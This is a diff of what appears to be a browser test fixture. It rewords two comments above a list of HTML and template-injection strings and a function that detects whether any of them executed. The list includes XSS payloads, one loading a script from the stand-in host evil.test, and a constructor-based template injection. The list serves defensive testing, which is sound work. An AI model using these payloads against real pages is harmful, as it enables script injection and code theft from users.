@@ -1,4 +1,4 @@
-/** Each of these would set `window.ran`, open a dialog or load something, if it were obeyed. */
+/** If one of these got through, it would set `window.ran`, open a dialog or load something. */
 export const injections = [
   "<script>window.ran = 1</script>",
   "<script src=//evil.test/x.js></script>",
@@ -43,7 +43,7 @@ export const injections = [
   "{{constructor.constructor('window.ran=1')()}}",
 ];
 
-/** Runs in the page: everything in it that an obeyed injection could have left behind. */
+/** Runs in the page. Returns every trace that an injection could have left. */
 export function remains(): string[] {
   const found: string[] = [];
   if ("ran" in window) found.push("a script ran");
